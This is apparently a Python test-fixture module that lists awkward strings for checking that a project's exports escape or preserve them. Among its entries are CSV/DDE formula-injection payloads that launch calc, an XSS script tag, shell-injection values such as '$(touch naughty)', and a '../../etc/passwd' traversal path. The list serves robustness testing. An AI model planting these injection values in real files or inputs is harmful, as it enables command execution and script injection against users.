"""Names that no program expects: letters that steer terminals, formulas, markup, shell, sentinels.

Written for this project. Each must come out of every format unchanged, or visibly escaped.
"""

from __future__ import annotations

_CONTROL = [chr(code) for code in (*range(1, 32), *range(127, 160))]
_BIDI = [
    chr(code) for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
]
_INVISIBLE = [
    chr(code)
    for code in (
        0x00A0, 0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x2000, 0x2003, 0x200B, 0x200C,
        0x200D, 0x2028, 0x2029, 0x202F, 0x205F, 0x2060, 0x2061, 0x2064, 0x206F, 0x3000, 0x3164,
        0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF,
        0x1D173, 0x1FFFE, 0xE0001, 0xE0041, 0xE007F, 0xE0100, 0xF0000, 0x10FFFD, 0x10FFFF,
    )
]  # fmt: skip

LETTERS = [f"a{letter}b" for letter in (*_CONTROL, *_BIDI, *_INVISIBLE)]

FORMULAS = [
    "=1+1", "=", "==", "+1", "+", "-1", "-", "@SUM(A1)", "@", "=cmd|' /C calc'!A0", "=A1", '="a"',
    '=HYPERLINK("http://example.org","x")', '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=WEBSERVICE("http://example.org")', '=DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "''", "'",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "=1+1;=2", "{=1}", '=INDIRECT("A"&1)', "=-1", "--1",
    "=\t1", "%00=1", "\u200b=1+1", "|calc", ";=1", "=RAND()", "=NOW()", "=1/0",
]  # fmt: skip

SENTINELS = [
    "#N/A", "#REF!", "#NAME?", "#VALUE!", "#DIV/0!", "#NULL!", "#NUM!", "N/A", "NA", "na", "n/a", "nan",
    "NaN", "-nan", "None", "none", "NULL", "null", "nil", "NaT", "<NA>", "inf", "-inf", "Infinity",
    "true", "TRUE", "false", "FALSE", "yes", "no", "0", "00", "007", "0x1F", "1e5", "1E400", "1_000",
    "1,000", "1.0", "-0", "1/2", "3-4", "4/5/2019", "2019-03-3", "2026-01-31", "2026-01-31T12:00:00Z",
    "12:30", "MARCH1", "SEPT2", "10E3", "now", "today", "no_information", "not_supported", "undefined",
    "user", "arn", "password_enabled", "root", "_root_account", "<root_account", "root_account>", "111122223333",
    "Total", "Finding ID", "No findings", "constructor", "__proto__", "CON", "NUL", "COM1", "aux.txt",
]  # fmt: skip

EXCEL = [
    "_x0041_", "_x005F_", "_x005F_x0041_", "_x0000_", "_x000D_", "_xFFFF_", "_xd800_", "_X0041_", "_x41_",
    "_x0041", "x0041_", "_x0041_x0042_", "__x0041__", "_x005f_x005f_", "_x00e9_", "a_x000A_b",
    "Sheet1!A1", "$A$1", "[Book1]Sheet1!A1", "A1:B2", "R1C1", "&F", "&[Page]", '&"Arial,Bold"x', "[$-409]",
]  # fmt: skip

MARKUP = [
    "<script>alert(1)</script>", "<b>", "</t>", "</is></c></row>", "<![CDATA[x]]>", "]]>", "<!--", "-->",
    '<?xml version="1.0"?>', "&amp;", "&lt;", "&#0;", "&#x1F;", "&#27;", "&nbsp;", "&bogus;", "&", "<", ">",
    '"', '""', "''", "`", "``", "```", "``` \n```"[:4], "a`b``c", "|", "\\|", "a|b", "||", "*x*", "**x**", "_x_",
    "~~x~~", "# x", "- x", "1. x", "> x", "[x](http://example.org)", "![x](y)", "<http://example.org>", "{{x}}",
    "{x}", "{0}", "{verdict}", "{{", "}}", "{", "}", "{noformat}", "{code}", "[~user]", "[x|http://example.org]",
    "h1. x", "bq. x", "!x.png!", "^x^", "??x??", "[red]", "[/red]", "[bold]x[/bold]", "[link=http://example.org]x",
    "[", "]", "[[", ":smile:", "$x$", "$$", "\\alpha", "$\\frac{1}{0}$", "\\", "\\\\", "%s", "%d", "%n", "%(x)s",
    "%", "100%", "\\n", "\\x1b", "\\u202e", "\\", "a\\", "^M", "@mention", "#123",
]  # fmt: skip

SHELL = [
    "$(touch naughty)", "`touch naughty`", "; touch naughty", "| touch naughty", "&& touch naughty",
    "& touch naughty", "> naughty", ">> naughty", "< naughty", "'; touch naughty; '", '"; touch naughty; "',
    "$HOME", "${HOME}", "${x:-y}", "$?", "$$x", "$1", "$@", "$*", "$#", "!!", "!x", "~", "~root", "*", "?", "[a-z]",
    "a b", " a", "a ", "  ", "a\tb", "-x", "--", "--help", "-rf", "--user-name=bob", "-n", "-e x", "x=1", "#x", "\\$x",
    "a'b", 'a"b', "a'b\"c", "'\\''", "$'x'", '$"x"', "<(x)", "(x)", "((1))", "{a,b}", "a;b", "a&b", "a|b", "x\\",
    "if", "done", "EOF", "<<EOF", "\\", "%s%n", "a,b", ",", ",,,", "a=b", "a:b", "a/b", "../x", "../../etc/passwd",
    "/etc/passwd", "C:\\x", "\\\\server\\x", "file:///x", ".", "..", "a.b@c+d=e,f-g_h",
]  # fmt: skip

TONGUES = [
    "\u00e4\u00f6\u00fc\u00df", "\u0141\u00f3d\u017a", "\u0130stanbul", "\u0131", "\u017fe", "\u212a",
    "\u4e2d\u6587", "\u65e5\u672c\u8a9e", "\ud55c\uad6d\uc5b4", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u0e44\u0e17\u0e22", "\u0939\u093f\u0928\u094d\u0926\u0940",
    "e\u0301", "\u00e9", "a" + "\u0301" * 40, "Z\u0351\u036b\u0343A\u0336L\u0358G\u0320O",
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\U0001f44d\U0001f3fd",
    "\U0001d4d0\U0001d4d1", "\U00020000", "\u2603", "\u20ac", "\u00b2", "\u0661\u0662", "\u2460", "\uff21\uff22",
    "\u202eabc\u202c", "\u2067abc\u2069", "\ufb01", "\u1e9e", "\u0345", "\u03a3\u03c2", "\u01c5", "\u2212", "\u2044",
    "\u2025", "\u2024", "\u037e", "\u00b4", "\u2018x\u2019", "\u201cx\u201d", "\u00abx\u00bb", "\u2014", "\u2011",
]  # fmt: skip

STEERING = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x1b[1A\x1b[2K", "\x9b31m", "\x1bc", "\x1b]8;;http://example.org\x07x",
    "\x07" * 20, "\x08\x08\x08x", "a\x7fb", "a\x0db", "a\x0bb", "a\x0cb", "a\x85b", "\x1b(0x\x1b(B", "\x1bPx\x1b\\", "\x0e\x0f",
    "a\u2028b", "a\u2029b", "a\x1c\x1d\x1e\x1fb",
]  # fmt: skip

LONG = ["x" * 200, "x" * 32_767, "x" * 32_768, "x" * 40_000, "_x0041_" * 6_000, "\u202e" * 10_000, "'" * 9_000,
        "=" * 9_000, "\U0001f600" * 20_000, "a,b" * 3_000]  # fmt: skip

NAUGHTY = [*LETTERS, *FORMULAS, *SENTINELS, *EXCEL, *MARKUP, *SHELL, *TONGUES, *STEERING, *LONG]
NAUGHTY = [name for name in dict.fromkeys(NAUGHTY) if name.strip() and not set(name) & {"\n", "\r"}]
